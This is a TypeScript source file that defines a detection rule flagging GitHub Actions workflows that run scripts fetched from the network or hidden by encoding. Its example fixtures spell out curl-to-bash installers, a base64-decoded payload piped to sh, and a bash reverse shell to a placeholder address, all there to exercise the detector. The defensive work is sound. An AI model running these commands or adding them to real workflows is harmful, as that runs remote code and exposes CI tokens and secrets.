import { z } from "zod";
import { defineRule } from "../../rule.ts";
import { newlyHeld } from "../../workflows/fresh.ts";
import { linesLike } from "../../workflows/script-patterns.ts";
import { hidden, piped, unseenSource } from "../../workflows/unseen-scripts.ts";

export default defineRule({
  id: "gha-runs-script-from-network",
  invariant: "supply-chain-is-intact",
  severity: "high",
  confidence: "high",
  summary: "A workflow comes to run a script that it fetches or unpacks at that moment, which nobody saw.",
  why: "Whoever holds the address, or the way to it, runs commands with the token and the secrets of the job, and may send another script to it than to whoever looks.",
  remedy:
    "Fetch a release, compare its checksum or signature with one in the repository, and then run it; or use an action held at a commit.",
  needs: "workflows",
  options: z.strictObject({
    trusted: z
      .array(z.string())
      .default([])
      .describe("Beginnings of addresses whose scripts may be run, such as `https://get.helm.sh/`."),
  }),
  *detect({ changes }, { trusted }) {
    const found = newlyHeld(changes, (workflow) =>
      [...linesLike(workflow, piped), ...linesLike(workflow, hidden)].map((told) => ({
        key: unseenSource(told.text),
        trace: told.text,
        told,
      })),
    );
    for (const { workflow, item } of found) {
      const { at, job, text } = item.told;
      if (trusted.some((start) => item.key.startsWith(start))) continue;
      yield {
        at,
        about: `${workflow.path}#${job}.${item.key}`,
        message: `job \`${job}\` runs what it is sent: \`${text}\``,
        ...(hidden.test(text) ? {} : { asks: true as const }),
        object: job,
      };
    }
  },
  examples: {
    "an installer": `
      M .github/workflows/ci.yml
        on: push
        jobs:
          build:
            runs-on: ubuntu-latest
            steps:
              - run: |
                  make
      >           curl -sSfL https://example.com/install.sh | sudo bash -s -- -b /usr/local/bin
      >           bash <(curl -s https://example.com/upload)
      >           wget -qO- https://example.org/get.py | python3`,
    "what nobody can read, and a way out": `
      M .github/workflows/ci.yml
        on: push
        jobs:
          build:
            runs-on: ubuntu-latest
            steps:
              - run: |
                  make
      >           echo Y3VybCBleGFtcGxlLmNvbQ== | base64 -d | sh
      >           bash -i >& /dev/tcp/192.0.2.7/443 0>&1`,
    "fetched and compared": `
      M .github/workflows/ci.yml
        on: push
        jobs:
          build:
            runs-on: ubuntu-latest
            steps:
              - run: |
      +           curl -sSfLo tool.tgz https://example.com/tool.tgz
      +           echo "$SUM tool.tgz" | sha256sum -c
      +           curl -s https://example.com/status | jq .
      +           curl -s https://example.com/health || sh retry.sh
                  make`,
    "the same installer with another flag": `
      M .github/workflows/ci.yml
        on: push
        jobs:
          build:
            runs-on: ubuntu-latest
            steps:
      -       - run: curl -sSL https://example.com/install.sh | sh
      +       - run: curl -sSfL https://example.com/install.sh | sh -s -- -y`,
    "an address that is trusted": {
      options: { trusted: ["https://example.com/"] },
      change: `
      M .github/workflows/ci.yml
        on: push
        jobs:
          build:
            runs-on: ubuntu-latest
            steps:
      -       - run: make
      +       - run: curl -sSL https://example.com/install.sh | sh`,
    },
  },
});
